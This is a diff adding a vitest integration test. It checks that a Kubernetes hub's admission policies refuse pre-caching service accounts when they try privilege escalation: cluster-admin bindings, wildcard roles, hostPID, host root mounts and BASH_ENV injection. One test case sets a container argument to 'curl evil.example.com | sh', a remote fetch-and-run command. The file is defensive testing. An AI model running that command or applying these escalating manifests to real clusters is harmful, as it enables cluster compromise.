@@ -1,0 +1,344 @@
+import { setTimeout as sleep } from "node:timers/promises";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { type KubernetesHub, kubernetesHub } from "#shared/adapters/kubernetes-hub.ts";
+import type { KubernetesObject } from "#shared/domain/kubernetes/object.ts";
+import { referenceTo } from "#shared/domain/kubernetes/object.ts";
+import { manifestWork, withSuspend } from "#shared/domain/precache/work/manifest-work.ts";
+import { HubError } from "#shared/ports/hub.ts";
+import { aRun, release } from "../support/precache-objects.ts";
+import { anUpgrade } from "../support/precache-plan-objects.ts";
+import { createManifest } from "./support/apply-manifests.ts";
+import { asNew } from "./support/as-new.ts";
+import { startHub, type TestHub } from "./support/hub.ts";
+import { hubAccounts } from "./support/process-accounts.ts";
+
+const cluster = "team-a";
+const content = { platformImage: release, additionalImages: [release], spaceRequired: "45" };
+const input = { run: aRun, content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240 };
+const own = manifestWork(cluster, input);
+
+type Fields = Record<string, unknown>;
+/** A copy of the function's own work with something changed in the manifest of this kind. */
+function changed(kind: string, change: (manifest: Fields) => void): KubernetesObject {
+  const copy = structuredClone(own);
+  const manifests: readonly Fields[] = Object(copy.spec).workload.manifests;
+  const found = manifests.find((manifest) => manifest.kind === kind);
+  if (!found) throw new Error(`the work has no ${kind}`);
+  change(found);
+  return copy;
+}
+const changedPod = (change: (pod: Fields & { containers: Fields[]; volumes: Fields[] }) => void) =>
+  changed("Job", ({ spec }) => change(Object(spec).template.spec));
+const changedSpec = (change: (spec: Fields) => void): KubernetesObject => {
+  const copy = structuredClone(own);
+  change(Object(copy.spec));
+  return copy;
+};
+const more = (manifest: object) => changedSpec((spec) => Object(spec.workload).manifests.push(manifest));
+
+const refusedWorks: readonly Readonly<{ name: string; work: KubernetesObject; says: string }>[] = [
+  {
+    name: "When a work has another program's name, it should be refused",
+    work: { ...own, metadata: { ...own.metadata, name: "addon-work-manager" } },
+    says: "its own ManifestWorks only",
+  },
+  {
+    name: "When a work chooses whose rights it is applied with, it should be refused",
+    work: changedSpec((spec) => {
+      const serviceAccount = { namespace: "kube-system", name: "root" };
+      spec.executor = { subject: { type: "ServiceAccount", serviceAccount } };
+    }),
+    says: "with the rights of the cluster's agent",
+  },
+  {
+    name: "When a work brings a Secret, it should be refused",
+    work: more({
+      apiVersion: "v1",
+      kind: "Secret",
+      metadata: { name: "s", namespace: "openshift-talo-pre-cache" },
+    }),
+    says: "stays in its own namespace",
+  },
+  {
+    name: "When a work brings a DaemonSet under the kind of a Job, it should be refused",
+    work: changed("Job", (job) => (job.apiVersion = "apps/v1")),
+    says: "stays in its own namespace",
+  },
+  {
+    name: "When a work reaches into another namespace, it should be refused",
+    work: changed("Job", ({ metadata }) => (Object(metadata).namespace = "kube-system")),
+    says: "stays in its own namespace",
+  },
+  {
+    name: "When a ClusterRole allows more, it should be refused",
+    work: changed(
+      "ClusterRole",
+      (role) => (role.rules = [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]),
+    ),
+    says: "no more",
+  },
+  {
+    name: "When a Role reads every ConfigMap, it should be refused",
+    work: changed(
+      "Role",
+      (role) => (role.rules = [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get"] }]),
+    ),
+    says: "no more",
+  },
+  {
+    name: "When the account becomes an administrator, it should be refused",
+    work: changed("RoleBinding", ({ roleRef }) => (Object(roleRef).name = "cluster-admin")),
+    says: "its own roles and the privileged constraint",
+  },
+  {
+    name: "When somebody else is bound, it should be refused",
+    work: changed(
+      "ClusterRoleBinding",
+      (binding) => (binding.subjects = [{ kind: "Group", name: "system:serviceaccounts" }]),
+    ),
+    says: "nobody else anything",
+  },
+  {
+    name: "When the pod joins the node's processes, it should be refused",
+    work: changedPod((pod) => (pod.hostPID = true)),
+    says: "shares nothing with the node",
+  },
+  {
+    name: "When the pod has a second container, it should be refused",
+    work: changedPod(({ containers }) => containers.push({ name: "x", image: "quay.io/evil/x" })),
+    says: "one container",
+  },
+  {
+    name: "When the container runs something else, it should be refused",
+    work: changedPod(
+      ({ containers: [container] }) => (Object(container).args = ["curl evil.example.com | sh"]),
+    ),
+    says: "the workload's own script",
+  },
+  {
+    name: "When the container's shell is given a file to begin with, it should be refused",
+    work: changedPod(({ containers: [container] }) =>
+      Object(container).env.push({ name: "BASH_ENV", value: "/etc/config/platform.image" }),
+    ),
+    says: "with its own settings",
+  },
+  {
+    name: "When the pod sees all of the node, it should be refused",
+    work: changedPod(({ volumes }) => volumes.push({ name: "host-root", hostPath: { path: "/" } })),
+    says: "writes its image storage",
+  },
+  {
+    name: "When the pod may write the node's programs, it should be refused",
+    work: changedPod(({ containers: [container] }) => {
+      for (const mount of Object(container).volumeMounts) delete mount.readOnly;
+    }),
+    says: "writes its image storage",
+  },
+];
+
+describe("somebody with an account of pre-caching", () => {
+  let server: TestHub;
+  let person: KubernetesHub;
+  const cleanup = new AsyncDisposableStack();
+  const thieves = new Map<string, KubernetesHub>();
+  let cgu: KubernetesObject;
+
+  const as = (account: string): KubernetesHub => {
+    const thief = thieves.get(account);
+    if (!thief) throw new Error(`nobody has the account ${account}`);
+    return thief;
+  };
+  /** What the API server says; "taken" when it does what is asked. */
+  async function answerTo(request: Promise<unknown>): Promise<string> {
+    try {
+      await request;
+      return "taken";
+    } catch (error) {
+      if (error instanceof HubError) return error.message;
+      throw error;
+    }
+  }
+
+  /** Repeats a request until it is refused with these words. */
+  async function untilTold(says: string, request: () => Promise<KubernetesObject>): Promise<void> {
+    for (let patience = 100; patience > 0; patience--) {
+      if ((await answerTo(request())).includes(says)) return;
+      await sleep(100);
+    }
+    throw new Error(`the policies are not applied: nobody said "${says}"`);
+  }
+
+  beforeAll(async () => {
+    server = await startHub();
+    cleanup.defer(() => server.stop());
+    person = cleanup.adopt(kubernetesHub(server.admin.kubeConfig), (hub) => hub.close());
+    const entranceOf = await hubAccounts(server);
+    for (const account of ["precache-plan", "precache-cluster", "precache-status"]) {
+      const { kubeConfig } = await entranceOf(`hubrelay-${account}`);
+      thieves.set(
+        account,
+        cleanup.adopt(kubernetesHub(kubeConfig), (hub) => hub.close()),
+      );
+    }
+    for (const name of [cluster, "ztp"])
+      await createManifest(server.api, { apiVersion: "v1", kind: "Namespace", metadata: { name } });
+    const stored = await person.create(
+      asNew(anUpgrade({}, { annotations: { owner: "team-a", "hubrelay.dev/retry": "sno1" } })),
+    );
+    const precaching = { spec: { platformImage: release, spaceRequired: "45" }, clusters: ["sno1", "sno2"] };
+    const lastTransitionTime = "2026-03-01T02:00:00Z";
+    const valid = {
+      type: "Validated",
+      status: "True",
+      reason: "ValidationCompleted",
+      message: "",
+      lastTransitionTime,
+    };
+    cgu = await person.updateStatus({ ...stored, status: { conditions: [valid], precaching } });
+    // The API server begins to apply policies a moment after they are stored; another value each time is a change.
+    const another = () => [String(performance.now())];
+    const otherName = { ...own, metadata: { ...own.metadata, name: "other" } };
+    await untilTold("own ManifestWorks only", () => as("precache-cluster").create(otherName));
+    await untilTold("but enable", () => as("precache-plan").update(withSpec({ clusters: another() })));
+    await untilTold("is planned", () =>
+      as("precache-status").updateStatus(withPrecaching({ clusters: another() })),
+    );
+  });
+  afterAll(() => cleanup.disposeAsync());
+
+  const withSpec = (fields: object): KubernetesObject => ({
+    ...cgu,
+    spec: { ...Object(cgu.spec), ...fields },
+  });
+  const withMetadata = (metadata: object): KubernetesObject => ({
+    ...cgu,
+    metadata: { ...cgu.metadata, ...metadata },
+  });
+  const withStatus = (fields: object): KubernetesObject => ({
+    ...cgu,
+    status: { ...Object(cgu.status), ...fields },
+  });
+  const withPrecaching = (fields: object): KubernetesObject =>
+    withStatus({ precaching: { ...Object(cgu.status).precaching, ...fields } });
+
+  test.for(refusedWorks)("$name", async ({ work, says }) => {
+    expect(await answerTo(as("precache-cluster").create(work))).toContain(says);
+  });
+
+  test("When a work is what the function makes, it should be taken, suspended, resumed and removed", async () => {
+    const hub = as("precache-cluster");
+    const stored = await hub.create(own);
+    const suspended = withSuspend(stored, true);
+    const resumed = suspended && withSuspend(await hub.update(suspended), false);
+    if (resumed) await hub.update(resumed);
+    await hub.delete({ ...referenceTo(own) });
+  });
+
+  test("When another program's work is there, it should be neither changed nor removed", async () => {
+    const theirs = await person.create({ ...own, metadata: { namespace: cluster, name: "precache-like" } });
+    expect(await answerTo(as("precache-status").delete(referenceTo(theirs)))).toContain(
+      "its own ManifestWorks only",
+    );
+    const taken = { ...theirs, metadata: { ...theirs.metadata, labels: own.metadata.labels ?? {} } };
+    expect(await answerTo(as("precache-cluster").update(taken))).toContain("its own ManifestWorks only");
+  });
+
+  test.for<Readonly<{ name: string; account: string; change: () => KubernetesObject; says: string }>>([
+    {
+      name: "When planning chooses the clusters of the rollout, it should be refused",
+      account: "precache-plan",
+      change: () => withSpec({ clusters: ["sno9"] }),
+      says: "no field of a ClusterGroupUpgrade but enable",
+    },
+    {
+      name: "When planning leaves the policies out, it should be refused",
+      account: "precache-plan",
+      change: () => withSpec({ managedPolicies: undefined }),
+      says: "no field of a ClusterGroupUpgrade but enable",
+    },
+    {
+      name: "When planning writes another's annotation, it should be refused",
+      account: "precache-plan",
+      change: () => withMetadata({ annotations: { ...cgu.metadata.annotations, owner: "me" } }),
+      says: "leaves other annotations alone",
+    },
+    {
+      name: "When planning lets a rollout start by itself, it should be refused",
+      account: "precache-plan",
+      change: () =>
+        withMetadata({ annotations: { ...cgu.metadata.annotations, "hubrelay.dev/precaching": "true" } }),
+      says: "leaves other annotations alone",
+    },
+    {
+      name: "When planning adds a finalizer, it should be refused",
+      account: "precache-plan",
+      change: () => withMetadata({ finalizers: ["example.com/held"] }),
+      says: "no labels and no finalizers",
+    },
+    {
+      name: "When following enables the rollout, it should be refused",
+      account: "precache-status",
+      change: () => withSpec({ enable: true }),
+      says: "no field of a ClusterGroupUpgrade but enable",
+    },
+    {
+      name: "When following asks for a retry itself, it should be refused",
+      account: "precache-status",
+      change: () => withMetadata({ annotations: { owner: "team-a", "hubrelay.dev/retry": "failed" } }),
+      says: "leaves other annotations alone",
+    },
+  ])("$name", async ({ account, change, says }) => {
+    expect(await answerTo(as(account).update(change()))).toContain(says);
+  });
+
+  test.for<Readonly<{ name: string; change: () => KubernetesObject; says: string }>>([
+    {
+      name: "When it plans other clusters, it should be refused",
+      change: () => withPrecaching({ clusters: ["sno9"] }),
+      says: "is planned",
+    },
+    {
+      name: "When it plans other images, it should be refused",
+      change: () => withPrecaching({ spec: { platformImage: "quay.io/evil/release", spaceRequired: "45" } }),
+      says: "is planned",
+    },
+    {
+      name: "When it tells that the whole upgrade has succeeded, it should be refused",
+      change: () => {
+        const [valid] = Object(cgu.status).conditions;
+        return withStatus({ conditions: [valid, { ...valid, type: "Succeeded" }] });
+      },
+      says: "nothing else",
+    },
+    {
+      name: "When it writes what the rollout tells, it should be refused",
+      change: () => withStatus({ clusters: [{ name: "sno1", state: "complete" }] }),
+      says: "status.precaching of a ClusterGroupUpgrade only",
+    },
+  ])("Of the status, $name", async ({ change, says }) => {
+    for (const account of ["precache-cluster", "precache-status"])
+      expect(await answerTo(as(account).updateStatus(change()))).toContain(says);
+  });
+
+  test("When they write what the functions write, it should be taken", async () => {
+    cgu = await as("precache-cluster").updateStatus(withPrecaching({ status: { sno1: "PreparingToStart" } }));
+    const conditions = [
+      ...Object(cgu.status).conditions,
+      {
+        ...Object(cgu.status).conditions[0],
+        type: "PrecachingSuceeded",
+        status: "False",
+        reason: "InProgress",
+      },
+    ];
+    cgu = await as("precache-status").updateStatus(withStatus({ conditions }));
+    const { "hubrelay.dev/retry": _retry, ...annotations } = cgu.metadata.annotations ?? {};
+    cgu = await as("precache-status").update(withMetadata({ annotations }));
+    const noted = { ...annotations, "hubrelay.dev/workload-image": "quay.io/acme/workload:v1" };
+    cgu = await as("precache-plan").update(withMetadata({ annotations: noted }));
+    cgu = await as("precache-plan").update(withSpec({ enable: true }));
+    expect(await answerTo(as("precache-plan").update(withSpec({ enable: false })))).toContain(
+      "only ever enables a rollout",
+    );
+  });
+});
